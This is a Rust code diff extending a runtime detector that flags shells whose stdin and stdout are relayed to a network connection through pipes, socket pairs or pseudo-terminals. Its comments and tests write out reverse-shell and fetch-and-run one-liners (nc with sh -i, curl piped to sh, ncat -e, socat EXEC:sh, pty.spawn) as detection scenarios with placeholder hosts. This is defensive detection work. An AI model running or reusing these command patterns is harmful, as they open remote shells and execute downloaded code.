@@ -11,8 +11,13 @@
 //!
 //! A relaying tool keeps its ends of the pipes on fds above 2, which the kernel does not
 //! report: a process whose stdin and stdout are pipes no other process has on its stdio, and
-//! whose parent holds a connection, is relayed by its parent ([`Via::Parent`]). CGI servers
-//! and sshd running commands look the same; the rules tell them apart.
+//! whose parent holds a connection, is relayed by its parent ([`Via::Parent`]). The same holds
+//! for the other channels a relay can give a program: one end of a Unix socket pair
+//! ([`Via::Socketpair`], socat's `EXEC:`) or the terminal side of a pseudo-terminal whose
+//! other side the parent holds ([`Via::Pty`], `pty.spawn`, socat's `pty`, `script`). CGI
+//! servers, sshd and `docker exec -t` running commands look the same; the rules tell them
+//! apart. Only pipes join processes into a pipeline: a terminal or a socket shared by a
+//! shell and its children says nothing about where the output goes.
 
 use std::collections::HashMap;
 
@@ -28,9 +33,21 @@ struct End {
     fd: u8,
 }
 
-/// A pipe within a container (inode numbers of pipefs and of a container's FIFOs do not
+/// What one of a process's fds 0-2 is, when it is a channel a relay can use.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
+pub enum Channel {
+    /// A pipe or FIFO.
+    #[default]
+    Pipe,
+    /// A Unix socket (one end of a pair).
+    Socket,
+    /// A pseudo-terminal's terminal side.
+    Pty,
+}
+
+/// A channel within a container, by kind and inode (inode numbers of one filesystem do not
 /// collide within one cgroup in practice; across containers they may).
-type PipeKey = (CgroupId, u64);
+type PipeKey = (CgroupId, Channel, u64);
 
 /// How a relayed process's output reaches the relay.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -39,6 +56,21 @@ pub enum Via {
     Pipeline,
     /// Through pipes only its parent, the relay, holds (a tool's exec mode).
     Parent,
+    /// Through a Unix socket pair whose other end its parent, the relay, holds.
+    Socketpair,
+    /// Through a pseudo-terminal whose other side its parent, the relay, holds.
+    Pty,
+}
+
+impl Via {
+    pub fn name(self) -> &'static str {
+        match self {
+            Via::Pipeline => "pipeline",
+            Via::Parent => "parent",
+            Via::Socketpair => "socketpair",
+            Via::Pty => "pty",
+        }
+    }
 }
 
 /// Which process's fds lead to which other process.
@@ -57,6 +89,7 @@ pub struct Relayed {
 struct Piped {
     cgroup: CgroupId,
     pipes: [u64; 3],
+    kinds: [Channel; 3],
     parent: Pid,
 }
 
@@ -70,9 +103,16 @@ pub struct PipeIndex {
 }
 
 impl PipeIndex {
-    /// `pid` (child of `parent`) exec'd with these pipe inodes on fds 0-2 (0: not a pipe);
-    /// replaces what it had.
-    pub fn set(&mut self, pid: Pid, parent: Pid, cgroup: CgroupId, pipes: [u64; 3]) {
+    /// `pid` (child of `parent`) exec'd with these channel inodes on fds 0-2 (0: none), of
+    /// these kinds; replaces what it had.
+    pub fn set(
+        &mut self,
+        pid: Pid,
+        parent: Pid,
+        cgroup: CgroupId,
+        pipes: [u64; 3],
+        kinds: [Channel; 3],
+    ) {
         self.remove(pid);
         if pipes.iter().all(|&p| p == 0) {
             return;
@@ -80,13 +120,17 @@ impl PipeIndex {
         for (fd, &ino) in pipes.iter().enumerate() {
             if ino != 0 {
                 let end = End { pid, fd: fd as u8 };
-                self.ends.entry((cgroup, ino)).or_default().push(end);
+                self.ends
+                    .entry((cgroup, kinds[fd], ino))
+                    .or_default()
+                    .push(end);
             }
         }
         self.children.entry(parent).or_default().push(pid);
         let piped = Piped {
             cgroup,
             pipes,
+            kinds,
             parent,
         };
         self.by_pid.insert(pid, piped);
@@ -97,6 +141,7 @@ impl PipeIndex {
         let Some(Piped {
             cgroup,
             pipes,
+            kinds,
             parent,
         }) = self.by_pid.remove(&pid)
         else {
@@ -108,11 +153,12 @@ impl PipeIndex {
                 self.children.remove(&parent);
             }
         }
-        for ino in pipes.into_iter().filter(|&i| i != 0) {
-            if let Some(ends) = self.ends.get_mut(&(cgroup, ino)) {
+        for (fd, ino) in pipes.into_iter().enumerate().filter(|&(_, i)| i != 0) {
+            let key = (cgroup, kinds[fd], ino);
+            if let Some(ends) = self.ends.get_mut(&key) {
                 ends.retain(|e| e.pid != pid);
                 if ends.is_empty() {
-                    self.ends.remove(&(cgroup, ino));
+                    self.ends.remove(&key);
                 }
             }
         }
@@ -140,18 +186,19 @@ impl PipeIndex {
         let Piped {
             cgroup,
             pipes,
+            kinds,
             parent,
         } = self.by_pid.get(&pid)?;
         let parent = *parent;
         if pipes[0] == 0 {
             return None;
         }
-        let private = |ino: u64| {
+        let private = |fd: usize| {
             self.ends
-                .get(&(*cgroup, ino))
+                .get(&(*cgroup, kinds[fd], pipes[fd]))
                 .is_none_or(|ends| ends.iter().all(|e| e.pid == pid))
         };
-        if pipes[1] != 0 && private(pipes[0]) && private(pipes[1]) && connected(parent) {
+        if pipes[1] != 0 && kinds[0] == kinds[1] && private(0) && private(1) && connected(parent) {
             return Some(Relayed {
                 pid,
                 fds: [1, 2]
@@ -160,19 +207,30 @@ impl PipeIndex {
                     .map(|fd| fd as i32)
                     .collect(),
                 relay: parent,
-                via: Via::Parent,
+                via: match kinds[0] {
+                    Channel::Pipe => Via::Parent,
+                    Channel::Socket => Via::Socketpair,
+                    Channel::Pty => Via::Pty,
+                },
             });
+        }
+        // A pipeline: pipes only.
+        if kinds[0] != Channel::Pipe {
+            return None;
         }
         let mut found: Option<Relayed> = None;
         for fd in [1u8, 2] {
             let ino = pipes[fd as usize];
-            if ino == 0 {
+            if ino == 0 || kinds[fd as usize] != Channel::Pipe {
                 continue;
             }
-            let reader = self.ends.get(&(*cgroup, ino)).and_then(|ends| {
-                ends.iter()
-                    .find(|e| e.pid != pid && e.fd == 0 && connected(e.pid))
-            });
+            let reader = self
+                .ends
+                .get(&(*cgroup, Channel::Pipe, ino))
+                .and_then(|ends| {
+                    ends.iter()
+                        .find(|e| e.pid != pid && e.fd == 0 && connected(e.pid))
+                });
             if let Some(reader) = reader {
                 let r = found.get_or_insert(Relayed {
                     pid,
@@ -199,9 +257,15 @@ impl PipeIndex {
             .flatten()
             .filter_map(|&child| self.relayed_by(child, connected))
             .collect();
-        if let Some(Piped { cgroup, pipes, .. }) = self.by_pid.get(&relay)
+        if let Some(Piped {
+            cgroup,
+            pipes,
+            kinds,
+            ..
+        }) = self.by_pid.get(&relay)
             && pipes[0] != 0
-            && let Some(ends) = self.ends.get(&(*cgroup, pipes[0]))
+            && kinds[0] == Channel::Pipe
+            && let Some(ends) = self.ends.get(&(*cgroup, Channel::Pipe, pipes[0]))
         {
             let mut writers: Vec<Pid> = ends
                 .iter()
@@ -259,11 +323,7 @@ impl Enricher {
         info.relayed = true;
         let info = info.clone();
         let body = Body::StdioRelay(pb::StdioRelay {
-            via: match r.via {
-                Via::Pipeline => "pipeline",
-                Via::Parent => "parent",
-            }
-            .into(),
+            via: r.via.name().into(),
             fds: r.fds,
             relay_pid: relay.pid.0,
             relay_exe: relay.exe,
@@ -279,14 +339,15 @@ mod tests {
     use super::*;
 
     const C: CgroupId = CgroupId(7);
+    const PIPES: [Channel; 3] = [Channel::Pipe; 3];
 
     /// `cat f | sh -i 2>&1 | nc HOST PORT > f`: cat's stdout is pipe 10, sh reads 10 and
     /// writes 11 on fds 1 and 2, nc reads 11 and writes the FIFO 12.
     fn pipeline() -> PipeIndex {
         let mut index = PipeIndex::default();
-        index.set(Pid(1), Pid(9), C, [0, 10, 0]);
-        index.set(Pid(2), Pid(9), C, [10, 11, 11]);
-        index.set(Pid(3), Pid(9), C, [11, 12, 0]);
+        index.set(Pid(1), Pid(9), C, [0, 10, 0], PIPES);
+        index.set(Pid(2), Pid(9), C, [10, 11, 11], PIPES);
+        index.set(Pid(3), Pid(9), C, [11, 12, 0], PIPES);
         index
     }
 
@@ -315,18 +376,18 @@ mod tests {
         // `curl URL | sh`: the shell's input comes from the network, its output does not go
         // there.
         let mut curl_sh = PipeIndex::default();
-        curl_sh.set(Pid(1), Pid(9), C, [0, 20, 0]);
-        curl_sh.set(Pid(2), Pid(9), C, [20, 0, 0]);
+        curl_sh.set(Pid(1), Pid(9), C, [0, 20, 0], PIPES);
+        curl_sh.set(Pid(2), Pid(9), C, [20, 0, 0], PIPES);
         assert!(curl_sh.relayed_through(Pid(1)).is_empty());
         assert_eq!(curl_sh.relayed_by(Pid(2), |p| p == Pid(1)), None);
         // `sh script | nc logs 514`: output to the network, but stdin is no pipe.
         let mut logs = PipeIndex::default();
-        logs.set(Pid(1), Pid(9), C, [0, 30, 0]);
-        logs.set(Pid(2), Pid(9), C, [30, 0, 0]);
+        logs.set(Pid(1), Pid(9), C, [0, 30, 0], PIPES);
+        logs.set(Pid(2), Pid(9), C, [30, 0, 0], PIPES);
         assert!(logs.relayed_through(Pid(2)).is_empty());
         // The same inode in another container is another pipe.
         let mut other = pipeline();
-        other.set(Pid(3), Pid(9), CgroupId(8), [11, 12, 0]);
+        other.set(Pid(3), Pid(9), CgroupId(8), [11, 12, 0], PIPES);
         assert_eq!(other.relayed_by(Pid(2), |p| p == Pid(3)), None);
     }
 
@@ -334,7 +395,7 @@ mod tests {
     fn a_shell_on_pipes_only_its_connected_parent_holds_is_relayed_by_the_parent() {
         // ncat -e: the parent connects, then runs the shell on two pipes of its own.
         let mut index = PipeIndex::default();
-        index.set(Pid(2), Pid(1), C, [40, 41, 41]);
+        index.set(Pid(2), Pid(1), C, [40, 41, 41], PIPES);
         let r = index.relayed_by(Pid(2), |p| p == Pid(1)).unwrap();
         assert_eq!((r.relay, r.via, r.fds), (Pid(1), Via::Parent, vec![1, 2]));
         assert_eq!(index.relayed_by(Pid(2), |_| false), None);
@@ -342,8 +403,34 @@ mod tests {
         let found = index.relayed_through(Pid(1));
         assert_eq!(found.len(), 1, "{found:?}");
         // A pipe another process has on its stdio is not the parent's alone.
-        index.set(Pid(3), Pid(9), C, [0, 40, 0]);
+        index.set(Pid(3), Pid(9), C, [0, 40, 0], PIPES);
         assert_eq!(index.relayed_by(Pid(2), |p| p == Pid(1)), None);
+    }
+
+    #[test]
+    fn a_socket_pair_or_a_pty_the_connected_parent_holds_is_a_relay_a_shared_tty_no_pipeline() {
+        // socat TCP:... EXEC:sh: the shell's stdio is one end of a socket pair.
+        let mut index = PipeIndex::default();
+        index.set(Pid(2), Pid(1), C, [50, 50, 50], [Channel::Socket; 3]);
+        let r = index.relayed_by(Pid(2), |p| p == Pid(1)).unwrap();
+        assert_eq!((r.via, r.fds), (Via::Socketpair, vec![1, 2]));
+        // pty.spawn: the shell's stdio is a terminal whose other side the parent holds.
+        index.set(Pid(4), Pid(3), C, [60, 60, 60], [Channel::Pty; 3]);
+        let r = index.relayed_by(Pid(4), |p| p == Pid(3)).unwrap();
+        assert_eq!(r.via, Via::Pty);
+        assert_eq!(index.relayed_through(Pid(3)).len(), 1);
+        // `docker exec -it sh`, then `nc HOST 80` from it: both on one terminal, the shell's
+        // output goes to the terminal, not to nc. No pipeline, and the terminal is not private.
+        let mut tty = PipeIndex::default();
+        tty.set(Pid(10), Pid(9), C, [70, 70, 70], [Channel::Pty; 3]);
+        tty.set(Pid(11), Pid(10), C, [70, 70, 70], [Channel::Pty; 3]);
+        assert_eq!(tty.relayed_by(Pid(10), |p| p == Pid(11)), None);
+        assert!(tty.relayed_through(Pid(11)).is_empty());
+        // A pipe and a socket with the same inode number are different channels.
+        let mut mixed = PipeIndex::default();
+        mixed.set(Pid(2), Pid(1), C, [80, 81, 81], PIPES);
+        mixed.set(Pid(3), Pid(9), C, [0, 80, 0], [Channel::Socket; 3]);
+        assert!(mixed.relayed_by(Pid(2), |p| p == Pid(1)).is_some());
     }
 
     #[test]
@@ -351,7 +438,7 @@ mod tests {
         let mut index = pipeline();
         index.remove(Pid(3));
         assert_eq!(index.relayed_by(Pid(2), |p| p == Pid(3)), None);
-        index.set(Pid(2), Pid(9), C, [0, 0, 0]);
+        index.set(Pid(2), Pid(9), C, [0, 0, 0], PIPES);
         assert_eq!(index.len(), 1);
         index.retain(|p| p != Pid(1));
         assert_eq!(index.len(), 0);
